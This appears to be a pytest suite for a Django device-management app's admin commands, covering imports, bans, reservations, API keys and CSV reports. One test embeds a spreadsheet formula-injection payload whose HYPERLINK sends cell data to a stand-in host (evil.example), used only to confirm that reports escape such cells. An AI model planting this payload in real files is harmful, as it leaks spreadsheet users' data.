"""The management commands of SPEC section 7."""

import csv
import io
import os
import re
import subprocess
import sys
from datetime import UTC, datetime

import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone

from devices.choices import DeviceStatus
from devices.management.commands.create_api_key import Command as CreateApiKey
from devices.models import Account, ApiKey, Device, DeviceEvent
from tests.factories import AccountFactory, DeviceFactory

pytestmark = pytest.mark.django_db


def run(*args, stdin: str | None = None, monkeypatch=None) -> tuple[int, str, str]:
    """Run a command as a script would; return (exit code, stdout, stderr)."""
    out, err = io.StringIO(), io.StringIO()
    if stdin is not None:
        monkeypatch.setattr("sys.stdin", io.StringIO(stdin))
    try:
        call_command(*args, stdout=out, stderr=err)
        code = 0
    except CommandError as exc:
        code = exc.returncode
        err.write(str(exc))
    return code, out.getvalue(), err.getvalue()


def write(tmp_path, text: str, name="rows.csv") -> str:
    path = tmp_path / name
    path.write_text(text)
    return str(path)


def read_report(path) -> list[dict]:
    with open(path, newline="") as stream:
        return list(csv.DictReader(stream))


# -- create_account ------------------------------------------------------------------------


def test_create_account_prints_its_id_last_and_a_second_run_changes_nothing():
    code, out, _ = run("create_account", "User@Mail.com", "--name", "User", "--password", "pw-12345", "--vendor")
    account = Account.objects.get()
    assert code == 0
    assert out.strip().splitlines()[-1] == str(account.pk)
    assert (account.login, account.name, account.is_vendor) == ("User@Mail.com", "User", True)
    assert account.check_password("pw-12345")

    code, out, _ = run("create_account", "user@mail.com")
    assert code == 0
    assert "already exists; nothing changed" in out
    assert out.strip().splitlines()[-1] == str(account.pk)
    assert Account.objects.count() == 1


def test_create_account_with_an_owner_and_role():
    reseller = AccountFactory(login="reseller@x.com", role="reseller")
    code, _out, _ = run("create_account", "client@x.com", "--owner", "RESELLER@x.com", "--role", "user")
    assert code == 0
    assert Account.objects.get(login="client@x.com").owner == reseller


def test_create_account_usage_errors_exit_2():
    assert run("create_account", "a@x.com", "--owner", "nobody@x.com")[0] == 2
    assert run("create_account", "", "--name", "x")[0] == 2
    with pytest.raises(CommandError):  # argparse refuses an unknown role
        call_command("create_account", "a@x.com", "--role", "emperor")
    assert Account.objects.count() == 0


def test_create_account_dry_run_writes_nothing():
    code, out, _ = run("create_account", "a@x.com", "--dry-run")
    assert (code, Account.objects.count()) == (0, 0)
    assert "Dry run" in out


# -- create_api_key ------------------------------------------------------------------------


def test_create_api_key_prints_the_key_last_and_keeps_only_its_hash():
    code, out, _ = run("create_api_key", "billing")
    secret = out.strip().splitlines()[-1]
    key = ApiKey.objects.get()
    assert code == 0
    assert secret.startswith(key.prefix + ".")
    assert key.secret_hash == ApiKey.hash_secret(secret)

    code, out, err = run("create_api_key", "billing")
    assert code == 1
    assert "exists already" in err
    assert ApiKey.objects.count() == 1


def test_create_api_key_is_billing_alone_with_no_expiry_by_default():
    code, out, _ = run("create_api_key", "billing")
    key = ApiKey.objects.get()
    assert (code, key.scopes, key.expires_at) == (0, ["billing"], None)
    assert "scopes billing; with no expiry" in out


def test_create_api_key_takes_its_scopes_and_expiry():
    code, out, _ = run("create_api_key", "crm", "--scope", "manage", "--scope", "billing", "--expires", "2099-01-31")
    key = ApiKey.objects.get()
    assert code == 0
    assert (key.scopes, key.expires_at) == (["billing", "manage"], datetime(2099, 1, 31, tzinfo=UTC))
    assert key.secret_hash == ApiKey.hash_secret(out.strip().splitlines()[-1])


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--expires", "tomorrow"], "--expires tomorrow: not a date (YYYY-MM-DD) or ISO date-time."),
        (["--expires", "2000-01-01"], "--expires 2000-01-01: not in the future."),
    ],
)
def test_create_api_key_refuses_a_bad_expiry_with_exit_2(args, message):
    assert run("create_api_key", "crm", *args)[::2] == (2, message)
    assert ApiKey.objects.count() == 0


def test_create_api_key_refuses_an_unknown_scope():
    with pytest.raises(CommandError, match="invalid choice: 'root'"):
        call_command("create_api_key", "crm", "--scope", "root")
    assert ApiKey.objects.count() == 0


def test_create_api_key_says_its_options_in_its_help():
    parser = CreateApiKey().create_parser("manage.py", "create_api_key")
    text = parser.format_help()
    assert "--scope SCOPE" in text and "--expires DATE" in text and "Default: billing alone." in text


def test_create_api_key_dry_run_says_the_scopes_and_writes_nothing():
    code, out, _ = run("create_api_key", "crm", "--scope", "manage", "--dry-run")
    assert (code, ApiKey.objects.count()) == (0, 0)
    assert "would be created (scopes manage; with no expiry)" in out


# -- import_devices ------------------------------------------------------------------------

IMPORT = """type,mac,serial_number,name,version
mediaagent,a1:b2:c3:d4:e5:f6,SN-1,Camera 1,1.0
mediaagent,A1-B2-C3-D4-E5-F7,,Camera 2,1.0
mediaagent,,SN-3,,2.0
"""


def test_import_registers_devices_and_a_second_run_changes_nothing(tmp_path):
    path = write(tmp_path, IMPORT)
    code, out, _ = run("import_devices", path)
    assert code == 0
    assert out.strip() == "3 rows: 3 created."
    assert set(Device.objects.values_list("mac", "serial_number", "status")) == {
        ("A1B2C3D4E5F6", "SN-1", "available"),
        ("A1B2C3D4E5F7", None, "available"),
        (None, "SN-3", "available"),
    }
    assert DeviceEvent.objects.filter(action="registered", source="command", actor="import_devices").count() == 3

    code, out, _ = run("import_devices", path)
    assert code == 0
    assert out.strip() == "3 rows: 3 unchanged. Nothing to change."
    assert DeviceEvent.objects.count() == 3


def test_import_updates_known_devices_and_keeps_values_of_empty_cells(tmp_path):
    DeviceFactory(type="mediaagent", mac="A1B2C3D4E5F6", serial_number=None, name="Old", version="0.9")
    path = write(tmp_path, "type,mac,serial_number,name,version\nmediaagent,a1b2c3d4e5f6,SN-9,,1.0\n")
    code, out, _ = run("import_devices", path, "--report", str(tmp_path / "r.csv"))
    assert (code, out.strip()) == (0, "1 row: 1 updated.")
    device = Device.objects.get()
    assert (device.serial_number, device.name, device.version) == ("SN-9", "Old", "1.0")
    assert device.events.get().details == {"serial_number": [None, "SN-9"], "version": ["0.9", "1.0"]}


def test_import_sets_a_status_only_where_the_lifecycle_allows(tmp_path, settings):
    DeviceFactory(type="mediaagent", mac="A1B2C3D4E5F6", active=True)
    path = write(
        tmp_path,
        "type,mac,serial_number,name,version,status\n"
        "mediaagent,A1B2C3D4E5F6,,,,available\n"
        "mediaagent,A1B2C3D4E5F7,,,,initializing\n",
    )
    code, _, err = run("import_devices", path)
    assert code == 1
    assert "line 2: the device is active: an import can't change that" in err
    assert Device.objects.get(mac="A1B2C3D4E5F7").status == DeviceStatus.INITIALIZING
    assert Device.objects.get(mac="A1B2C3D4E5F6").status == DeviceStatus.ACTIVE


def test_import_reports_bad_rows_and_processes_the_good_ones(tmp_path):
    # given
    DeviceFactory(type="mediaagent", mac="AAAAAAAAAAAA", serial_number="TAKEN")
    path = write(
        tmp_path,
        "type,mac,serial_number,name,version,status\n"
        "mediaagent,not-a-mac,,,,\n"  # 2 invalid mac
        ",A1B2C3D4E5F6,,,,\n"  # 3 no type
        "mediaagent,,,,,\n"  # 4 neither mac nor serial
        "mediaagent,A1B2C3D4E5F1,,,,\n"  # 5 good
        "mediaagent,a1:b2:c3:d4:e5:f1,,,,\n"  # 6 duplicate of 5
        "mediaagent,A1B2C3D4E5F2,TAKEN,,,\n"  # 7 a new mac with the serial number of a device that has another
        "mediaagent,A1B2C3D4E5F3,,,,sold\n"  # 8 unknown status
        "mediaagent,A1B2C3D4E5F4,,,,\n",  # 9 good
    )
    report = tmp_path / "report.csv"
    # when
    code, out, _err = run("import_devices", path, "--report", str(report))
    # then
    assert code == 1
    outcomes = {int(r["line"]): (r["outcome"], r["message"]) for r in read_report(report)}
    assert outcomes[5] == ("created", "")
    assert outcomes[9] == ("created", "")
    assert {outcomes[line][0] for line in (2, 3, 4, 6, 7, 8)} == {"failed"}
    assert outcomes[6][1] == "duplicate: line 5 names the same device"
    assert outcomes[3][1] == "type is required"
    assert "invalid mac" in outcomes[2][1]
    assert outcomes[7][1] == "mac and serial_number belong to two different devices"
    assert outcomes[8][1] == "status 'sold' is not one of available, free, initialization, initializing"
    assert Device.objects.get(serial_number="TAKEN").mac == "AAAAAAAAAAAA"
    assert set(Device.objects.values_list("mac", flat=True)) == {"AAAAAAAAAAAA", "A1B2C3D4E5F1", "A1B2C3D4E5F4"}
    assert out.strip() == "8 rows: 2 created, 6 failed."


def test_import_reads_standard_input(monkeypatch):
    code, _out, _ = run("import_devices", "-", stdin=IMPORT, monkeypatch=monkeypatch)
    assert (code, Device.objects.count()) == (0, 3)


def test_import_dry_run_writes_nothing_but_reports_what_it_would_do(tmp_path):
    report = tmp_path / "report.csv"
    code, out, _ = run("import_devices", write(tmp_path, IMPORT), "--dry-run", "--report", str(report))
    assert code == 0
    assert out.strip() == "Dry run, nothing written: 3 rows: 3 created."
    assert [r["outcome"] for r in read_report(report)] == ["created"] * 3
    assert Device.objects.count() == DeviceEvent.objects.count() == 0


@pytest.mark.parametrize(
    ("content", "message"),
    [("", "empty"), ("mac,name\nA1B2C3D4E5F6,x\n", "header row must name")],
)
def test_import_usage_errors_exit_2(tmp_path, content, message):
    code, _, err = run("import_devices", write(tmp_path, content))
    assert code == 2
    assert message in err


def test_a_missing_file_is_a_usage_error(tmp_path):
    code, _, err = run("import_devices", str(tmp_path / "nope.csv"))
    assert code == 2
    assert "No such file" in err


# A bulk session, whatever its size: set temp_buffers (before the session's first temporary table), CREATE TEMP
# TABLE bulk_rows, bulk_batch and bulk_seen, TRUNCATE them, read the device table's row estimate, SET
# synchronous_commit; at the end RESET it and TRUNCATE the three tables.
SESSION_QUERIES = 9


@pytest.mark.parametrize("rows", [10, 100])
def test_import_queries_per_batch_do_not_grow_with_the_batch(tmp_path, rows, django_assert_num_queries):
    # given: in each of two batches, half the rows new, half updates of existing devices
    for i in range(0, rows, 2):
        DeviceFactory(type="mediaagent", mac=f"0000000{i:05X}", serial_number=None, version="0")
    lines = [f"mediaagent,0000000{i:05X},,,1" for i in range(rows)]
    path = write(tmp_path, "type,mac,serial_number,name,version\n" + "\n".join(lines) + "\n")
    # Per batch: COPY the rows into bulk_rows, one statement that records their MACs and serial numbers in
    # bulk_seen (both outside the batch's transaction), SAVEPOINT, COPY the rows into bulk_batch, SELECT the
    # devices they name, SELECT nextval() for the new devices, COPY them, UPDATE the changed ones, COPY the events,
    # RELEASE.
    # And once per run, before the batches: SELECT the declared device types.
    with django_assert_num_queries(1 + SESSION_QUERIES + 2 * 10):
        assert run("import_devices", path, "--batch-size", str(rows // 2))[1].strip() == (
            f"{rows} rows: {rows // 2} created, {rows // 2} updated."
        )
    assert Device.objects.filter(version="1").count() == rows
    assert DeviceEvent.objects.filter(action="registered").count() == rows // 2
    assert DeviceEvent.objects.filter(action="updated").count() == rows // 2


# -- ban_devices / reserve_devices -----------------------------------------------------------


def test_ban_devices_by_uuid_or_type_and_mac_then_a_second_run_changes_nothing(tmp_path):
    # given
    by_uuid, _by_mac, by_serial = DeviceFactory(), DeviceFactory(mac="A1B2C3D4E5F6"), DeviceFactory()
    path = write(
        tmp_path,
        "uuid,type,mac,serial_number\n"
        f"{by_uuid.uuid},,,\n"
        ",mediaagent,a1:b2:c3:d4:e5:f6,\n"
        f",mediaagent,,{by_serial.serial_number}\n",
    )
    # when
    code, out, _ = run("ban_devices", path, "--reason", "fraud")
    # then
    assert (code, out.strip()) == (0, "3 rows: 3 banned.")
    assert set(Device.objects.values_list("is_banned", "ban_reason", "banned_by")) == {(True, "fraud", "ban_devices")}
    assert DeviceEvent.objects.filter(action="banned").count() == 3
    # a second run
    code, out, _ = run("ban_devices", path, "--reason", "fraud")
    assert (code, out.strip()) == (0, "3 rows: 3 unchanged. Nothing to change.")
    assert DeviceEvent.objects.count() == 3
    # unban
    code, out, _ = run("ban_devices", path, "--unban")
    assert (code, out.strip()) == (0, "3 rows: 3 unbanned.")
    assert not Device.objects.filter(is_banned=True).exists()


def test_ban_devices_reports_bad_rows_and_bans_the_good_ones(tmp_path):
    good = DeviceFactory(mac="A1B2C3D4E5F6", serial_number="S1")
    other = DeviceFactory(serial_number="S2")
    path = write(
        tmp_path,
        "uuid,type,mac,serial_number\n"
        ",mediaagent,A1B2C3D4E5F6,\n"  # 2 good
        ",mediaagent,zz,\n"  # 3 invalid mac
        ",mediaagent,FFFFFFFFFFFF,\n"  # 4 unknown
        f"{good.uuid},,,\n"  # 5 duplicate of 2
        ",SIP,A1B2C3D4E5F6,\n"  # 6 wrong type
        ",mediaagent,A1B2C3D4E5F6,S2\n"  # 7 mac and serial of two devices
        "not-a-uuid,,,\n",  # 8 invalid uuid
    )
    report = tmp_path / "r.csv"
    code, _out, _ = run("ban_devices", path, "--reason", "fraud", "--report", str(report))
    assert code == 1
    outcomes = {int(r["line"]): (r["outcome"], r["message"]) for r in read_report(report)}
    assert outcomes == {
        2: ("banned", ""),
        3: ("failed", outcomes[3][1]),
        4: ("failed", "device not found"),
        5: ("failed", "duplicate: line 2 names the same device"),
        6: ("failed", "device not found"),
        7: ("failed", "mac and serial_number name two different devices"),
        8: ("failed", "invalid uuid 'not-a-uuid'"),
    }
    assert "invalid mac" in outcomes[3][1]
    assert list(Device.objects.filter(is_banned=True)) == [good]
    assert not Device.objects.get(pk=other.pk).is_banned


def test_reserve_devices_reports_devices_in_the_wrong_state(tmp_path):
    free, active = DeviceFactory(), DeviceFactory(active=True)
    path = write(tmp_path, f"uuid\n{free.uuid}\n{active.uuid}\n")
    code, _out, err = run("reserve_devices", path)
    assert code == 1
    assert "Device already activated." in err
    assert Device.objects.get(pk=free.pk).status == DeviceStatus.RESERVED
    code, _out, _ = run("reserve_devices", path, "--unreserve")
    assert code == 1  # the active one can't be unreserved either
    assert Device.objects.get(pk=free.pk).status == DeviceStatus.AVAILABLE


@pytest.mark.parametrize("rows", [10, 100])
def test_ban_queries_per_batch_do_not_grow_with_the_batch(tmp_path, rows, django_assert_num_queries):
    devices = DeviceFactory.create_batch(rows)
    path = write(tmp_path, "uuid\n" + "\n".join(str(d.uuid) for d in devices) + "\n")
    # Per batch: COPY the rows into bulk_rows, one statement that finds the devices they name and records them in
    # bulk_seen, SAVEPOINT, one that bans and audits them (and reads those it didn't change), RELEASE.
    with django_assert_num_queries(SESSION_QUERIES + 2 * 5):
        assert run("ban_devices", path, "--reason", "fraud", "--batch-size", str(rows // 2))[0] == 0


# -- process_transitions ---------------------------------------------------------------------


def test_process_transitions_completes_only_overdue_devices_and_a_second_run_changes_nothing(tmp_path):
    # given
    past = timezone.now() - timezone.timedelta(seconds=1)
    initializing = DeviceFactory(initializing=True, status_until=past)
    deactivating = DeviceFactory(deactivating=True, status_until=past, leave_reserved=True)
    not_due = DeviceFactory(deactivating=True)
    report = tmp_path / "r.csv"
    # when: a dry run first
    code, out, _ = run("process_transitions", "--dry-run")
    assert "would complete 1 initialization(s) and 1 deactivation(s)" in out
    assert Device.objects.filter(status=DeviceStatus.AVAILABLE).count() == 0
    code, out, _ = run("process_transitions", "--report", str(report), "--batch-size", "1")
    # then
    assert (code, out.strip()) == (0, "Completed 1 initialization(s) and 1 deactivation(s).")
    initializing.refresh_from_db()
    deactivating.refresh_from_db()
    not_due.refresh_from_db()
    assert initializing.status == DeviceStatus.AVAILABLE
    assert (deactivating.status, deactivating.account) == (DeviceStatus.RESERVED, None)
    assert not_due.status == DeviceStatus.DEACTIVATING
    assert [(r["from_status"], r["to_status"]) for r in read_report(report)] == [
        ("initializing", "available"),
        ("deactivating", "reserved"),
    ]
    assert DeviceEvent.objects.filter(source="command", actor="process_transitions").count() == 2
    code, out, _ = run("process_transitions")
    assert out.strip() == "Completed 0 initialization(s) and 0 deactivation(s). Nothing to change."


def test_every_command_explains_itself_in_help():
    for name in [
        "create_account",
        "create_api_key",
        "import_devices",
        "reserve_devices",
        "ban_devices",
        "process_transitions",
        "seed_demo",
    ]:
        out = io.StringIO()
        with pytest.raises(SystemExit):
            call_command(name, "--help", stdout=out)
    # call_command prints --help to sys.stdout; the command's own text is its `help` attribute
    from django.core.management import load_command_class

    for name in ["import_devices", "ban_devices", "process_transitions"]:
        assert len(load_command_class("devices", name).help) > 80


def test_seed_demo_loads_every_protocol_once_and_prints_its_credentials(tmp_path, monkeypatch):
    from django.contrib.auth import get_user_model

    from licensing.models import License

    monkeypatch.setattr("devices.management.commands.seed_demo.CREDENTIALS_FILE", tmp_path / "credentials.txt")
    code, out, _ = run("seed_demo")
    assert code == 0
    password = re.search(r"login admin  password (\S+)", out).group(1)
    assert get_user_model().objects.get(username="admin").check_password(password)
    key = re.search(r"API key: (\S+)", out).group(1)
    assert ApiKey.objects.get().secret_hash == ApiKey.hash_secret(key)
    assert License.objects.filter(account__login="user@mail.com").count() == 3
    assert set(Device.objects.values_list("status", flat=True)) == {"available", "reserved", "active"}
    # a second run changes nothing and shows the same credentials
    code, again, _ = run("seed_demo")
    assert code == 0
    assert "nothing changed" in again
    assert password in again
    assert Device.objects.count() == 6


# -- every device-row command alike ----------------------------------------------------------

DEVICE_ROW_COMMANDS = [
    ("reserve_devices", [], "reserved", {}),
    ("reserve_devices", ["--unreserve"], "unreserved", {"reserved": True}),
    ("ban_devices", ["--reason", "fraud"], "banned", {}),
    ("ban_devices", ["--unban"], "unbanned", {"banned": True}),
]


@pytest.mark.parametrize(("command", "options", "done", "state"), DEVICE_ROW_COMMANDS)
def test_a_dry_run_writes_nothing_and_a_second_run_reports_every_row_unchanged(tmp_path, command, options, done, state):
    # given
    devices = DeviceFactory.create_batch(3, **state)
    path = write(tmp_path, "uuid\n" + "\n".join(str(d.uuid) for d in devices) + "\n")
    before = list(Device.objects.order_by("pk").values_list("status", "is_banned"))
    # when: a dry run
    code, out, _ = run(command, path, *options, "--dry-run")
    # then: it says what it would do and writes nothing
    assert (code, out.strip()) == (0, f"Dry run, nothing written: 3 rows: 3 {done}.")
    assert list(Device.objects.order_by("pk").values_list("status", "is_banned")) == before
    assert not DeviceEvent.objects.exists()
    # when: two real runs
    assert run(command, path, *options)[1].strip() == f"3 rows: 3 {done}."
    code, out, _ = run(command, path, *options)
    # then: the second changes nothing and says so
    assert (code, out.strip()) == (0, "3 rows: 3 unchanged. Nothing to change.")
    assert DeviceEvent.objects.count() == 3


@pytest.mark.parametrize(("command", "options", "done", "state"), DEVICE_ROW_COMMANDS)
@pytest.mark.parametrize("rows", [10, 100])
def test_device_row_commands_take_a_fixed_number_of_queries_per_batch(
    tmp_path, command, options, done, state, rows, django_assert_num_queries
):
    devices = DeviceFactory.create_batch(rows, **state)
    path = write(tmp_path, "type,mac\n" + "\n".join(f"{d.type},{d.mac}" for d in devices) + "\n")
    batch = ["--batch-size", str(rows // 2)]
    # Per batch: COPY the rows into bulk_rows, one statement that finds the devices they name and records them in
    # bulk_seen, SAVEPOINT, one that changes and audits them and reads those it didn't change, RELEASE. A second
    # run: the same.
    with django_assert_num_queries(SESSION_QUERIES + 2 * 5):
        assert run(command, path, *options, *batch)[1].strip() == f"{rows} rows: {rows} {done}."
    with django_assert_num_queries(SESSION_QUERIES + 2 * 5):
        assert run(command, path, *options, *batch)[1].strip() == f"{rows} rows: {rows} unchanged. Nothing to change."


def test_reserve_devices_reports_each_kind_of_bad_row_and_reserves_the_good_ones(tmp_path):
    # given
    good, active, other = DeviceFactory(mac="A1B2C3D4E5F6"), DeviceFactory(active=True), DeviceFactory()
    path = write(
        tmp_path,
        "uuid,type,mac,serial_number\n"
        ",mediaagent,a1:b2:c3:d4:e5:f6,\n"  # 2 good
        ",mediaagent,FFFFFFFFFFFF,\n"  # 3 unknown device
        ",mediaagent,a1:b2:c3,\n"  # 4 invalid mac
        f"{active.uuid},,,\n"  # 5 wrong state
        f"{good.uuid},,,\n"  # 6 duplicate of line 2
        f"{other.uuid},,,\n",  # 7 good
    )
    report = tmp_path / "report.csv"
    # when
    code, out, _ = run("reserve_devices", path, "--report", str(report))
    # then
    assert code == 1
    assert out.strip() == "6 rows: 4 failed, 2 reserved."
    outcomes = {int(r["line"]): (r["outcome"], r["message"]) for r in read_report(report)}
    assert outcomes[2] == outcomes[7] == ("reserved", "")
    assert outcomes[3] == ("failed", "device not found")
    assert outcomes[4][0] == "failed" and outcomes[4][1].startswith("invalid mac")
    assert outcomes[5] == ("failed", "Device already activated.")
    assert outcomes[6] == ("failed", "duplicate: line 2 names the same device")
    assert set(Device.objects.filter(status="reserved").values_list("pk", flat=True)) == {good.pk, other.pk}


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_a_progress_bar_shows_on_a_terminal_only(tmp_path, monkeypatch):
    path = write(tmp_path, IMPORT)
    # not a terminal: nothing but the summary
    err = io.StringIO()
    call_command("import_devices", path, "--dry-run", stdout=io.StringIO(), stderr=err)
    assert err.getvalue() == ""
    # a terminal: tqdm draws its bar on standard error
    terminal = Terminal()
    monkeypatch.setattr("sys.stderr", terminal)
    call_command("import_devices", path, "--dry-run", stdout=Terminal(), stderr=terminal)
    assert "3/3" in terminal.getvalue()


def test_a_report_writes_no_cell_a_spreadsheet_would_run_as_a_formula(tmp_path):
    # given: cells a spreadsheet would run, in a failing row and in a created one
    formula = '=HYPERLINK("https://evil.example/?d="&A2,"open")'
    path = write(
        tmp_path,
        "type,mac,serial_number,name,version,status\n"
        f'mediaagent,"{formula.replace(chr(34), chr(34) * 2)}",,,,\n'
        "mediaagent,A1B2C3D4E5F1,,@SUM(1+1),+1,\n",
    )
    report = tmp_path / "report.csv"
    # when
    code, _, _ = run("import_devices", path, "--report", str(report))
    # then: those cells start with an apostrophe; the device keeps the name as typed
    assert code == 1
    rows = read_report(report)
    assert rows[0]["mac"] == "'" + formula and rows[0]["outcome"] == "failed"
    assert (rows[1]["name"], rows[1]["version"], rows[1]["outcome"]) == ("'@SUM(1+1)", "'+1", "created")
    assert Device.objects.get().name == "@SUM(1+1)"


@pytest.mark.parametrize(
    ("options", "said"),
    [
        ([], "one of the arguments --reason --unban is required"),
        (["--reason", "  "], "argument --reason: Give a ban reason"),
        (["--unban", "--reason", "fraud"], "argument --reason: not allowed with argument --unban"),
    ],
    ids=["neither", "a blank reason", "both"],
)
def test_ban_devices_bans_with_a_reason_or_unbans_without_one(tmp_path, options, said):
    # given
    device = DeviceFactory()
    path = write(tmp_path, f"uuid\n{device.uuid}\n")
    # when: from the command line, as an operator runs it
    done = subprocess.run(
        [sys.executable, "manage.py", "ban_devices", path, *options],
        capture_output=True,
        text=True,
        env={**os.environ, "DATABASE_URL": "sqlite://:memory:"},  # refused before any database is used
        check=False,
    )
    # then
    assert done.returncode == 2
    assert said in done.stderr
    with pytest.raises(CommandError, match=said):
        call_command("ban_devices", path, *options)
    device.refresh_from_db()
    assert not device.is_banned and not DeviceEvent.objects.exists()


def test_a_file_saved_by_a_spreadsheet_with_a_byte_order_mark_is_read(tmp_path, monkeypatch):
    # given: UTF-8 with a BOM, as Excel's "CSV UTF-8" saves it, from a file and from standard input
    path = tmp_path / "excel.csv"
    path.write_bytes(IMPORT.encode("utf-8-sig"))
    # when
    from_file = run("import_devices", str(path))
    Device.objects.all().delete()
    from_stdin = run("import_devices", "-", stdin="\ufeff" + IMPORT, monkeypatch=monkeypatch)
    # then
    assert (from_file[0], from_file[1].strip()) == (from_stdin[0], from_stdin[1].strip()) == (0, "3 rows: 3 created.")


def test_columns_a_command_does_not_read_are_reported_and_the_rows_still_processed(tmp_path):
    path = write(tmp_path, "type,mac,colour,serial_number,owner\nmediaagent,A1B2C3D4E5F6,red,SN-1,x@example.com\n")
    code, out, err = run("import_devices", path)
    assert (code, out.strip()) == (0, "1 row: 1 created.")
    assert "Ignored column(s) this command does not read: colour, owner (it reads " in err
    assert Device.objects.get().serial_number == "SN-1"


def test_a_single_failed_row_is_said_in_the_singular(tmp_path):
    code, out, err = run("import_devices", write(tmp_path, "type,mac\nmediaagent,not-a-mac\n"))
    assert (code, out.strip()) == (1, "1 row: 1 failed. Nothing to change.")
    assert "1 of 1 row failed." in err
